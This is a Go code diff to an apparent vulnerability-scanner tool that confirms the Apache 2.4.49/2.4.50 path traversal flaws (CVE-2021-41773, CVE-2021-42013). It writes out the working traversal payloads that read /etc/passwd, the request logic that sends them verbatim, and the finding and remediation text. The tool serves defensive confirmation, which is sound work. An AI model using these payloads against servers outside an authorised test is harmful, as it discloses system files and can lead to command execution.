@@ -281,12 +281,25 @@ func NewConfirmCVE(opts ...Option) tools.Tool {
 // ConfirmableCVEs are the CVEs confirm_cve can confirm.
 func ConfirmableCVEs() []string { return []string{"CVE-2021-41773", "CVE-2021-42013"} }
 
-// traversals are the read-only requests per CVE: encoded dot segments that
-// a vulnerable server maps outside the document root.
-var traversals = map[string][]string{
-	"CVE-2021-41773": {"/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"},
-	"CVE-2021-42013": {"/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd", "/cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd"},
+// traversal is one read-only request of the Apache 2.4.49/2.4.50 path
+// traversal: encoded dot segments a vulnerable server maps outside the
+// document root. The 2.4.50 variant double-encodes the dot (%%32%65), which
+// is not valid percent-encoding, so the path is sent verbatim.
+type traversal struct {
+	cve, path string
 }
+
+// traversals per CVE asked for: 2.4.49 falls to both payloads, 2.4.50 only
+// to the double-encoded one, so either question tries both.
+var traversals = map[string][]traversal{
+	"CVE-2021-41773": {
+		{"CVE-2021-41773", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"},
+		{"CVE-2021-41773", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"},
+		{"CVE-2021-42013", "/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd"},
+	},
+}
+
+func init() { traversals["CVE-2021-42013"] = traversals["CVE-2021-41773"] }
 
 var passwdRoot = regexp.MustCompile(`(?m)^root:[^:\n]*:0:0:`)
 
@@ -320,23 +333,24 @@ func (t *ConfirmCVE) Run(ctx context.Context, env tools.Env, raw json.RawMessage
 	defer client.Close()
 	var tried []string
 	for _, scheme := range []string{"https", "http"} {
-		for _, p := range paths {
+		for _, tr := range paths {
 			u := httpprobe.SiteURL(scheme, host, in.Port)
-			decoded, _ := url.PathUnescape(strings.ReplaceAll(p, "%%", "%25"))
-			u.Path, u.RawPath = decoded, p
 			if err := httpprobe.CheckURL(env, u); err != nil {
 				return tools.Result{}, tools.Refuse("%v", err)
 			}
+			// Opaque "//host/path" is sent as the request target verbatim.
+			u.Path, u.Opaque = "", "//"+u.Host+tr.path
 			resp, err := client.Do(ctx, httpprobe.Request{URL: u, MaxBody: 8 << 10})
+			shown := scheme + "://" + u.Host + tr.path
 			if err != nil {
-				tried = append(tried, "GET "+u.String()+": "+httpprobe.Describe(err))
+				tried = append(tried, "GET "+shown+": "+httpprobe.Describe(err))
 				break // this scheme does not answer
 			}
-			tried = append(tried, fmt.Sprintf("GET %s → %d", u.String(), resp.Status))
+			tried = append(tried, fmt.Sprintf("GET %s → %d", shown, resp.Status))
 			if resp.Status == http.StatusOK && passwdRoot.Match(resp.Body) {
 				return tools.Result{
-					Outcome:  fmt.Sprintf("%s confirmed on %s:%d: the server returned /etc/passwd from outside the document root", in.CVE, host, in.Port),
-					Findings: []scans.Finding{confirmedTraversal(in.CVE, host, in.Port, u, resp)},
+					Outcome:  fmt.Sprintf("%s confirmed on %s:%d: the server returned /etc/passwd from outside the document root", tr.cve, host, in.Port),
+					Findings: []scans.Finding{confirmedTraversal(tr.cve, host, in.Port, shown, resp)},
 				}, nil
 			}
 		}
@@ -344,7 +358,7 @@ func (t *ConfirmCVE) Run(ctx context.Context, env tools.Env, raw json.RawMessage
 	return tools.Result{Outcome: in.CVE + " not confirmed (the version may be patched or the paths protected): " + strings.Join(tried, "; ")}, nil
 }
 
-func confirmedTraversal(cve, host string, port int, u *url.URL, resp *httpprobe.Response) scans.Finding {
+func confirmedTraversal(cve, host string, port int, request string, resp *httpprobe.Response) scans.Finding {
 	root := passwdRoot.Find(resp.Body)
 	line, _, _ := strings.Cut(string(resp.Body[passwdIndex(resp.Body, root):]), "\n")
 	cvss := 9.8
@@ -356,7 +370,7 @@ func confirmedTraversal(cve, host string, port int, u *url.URL, resp *httpprobe.
 		Title:    fmt.Sprintf("Apache HTTP Server path traversal confirmed (%s)", cve),
 		Severity: scans.Critical, Category: scans.CategoryVuln, Host: host, Port: &port,
 		Evidence: httpprobe.Clean(fmt.Sprintf("Request: GET %s (encoded dot segments, read-only). Response: %d %s, %d bytes, starting with the "+
-			"system's password file: %q (the rest is not kept).", u.String(), resp.Status, resp.ContentType(), len(resp.Body), line), 1500),
+			"system's password file: %q (the rest is not kept).", request, resp.Status, resp.ContentType(), len(resp.Body), line), 1500),
 		Description: "The server maps encoded dot segments outside the document root and returned /etc/passwd: any file the server " +
 			"process can read is disclosed, and with mod_cgi enabled the same flaw executes commands. Confirmed with a read-only request.",
 		Remediation: "Upgrade Apache HTTP Server to 2.4.51 or later now, and make sure the filesystem root is protected with " +
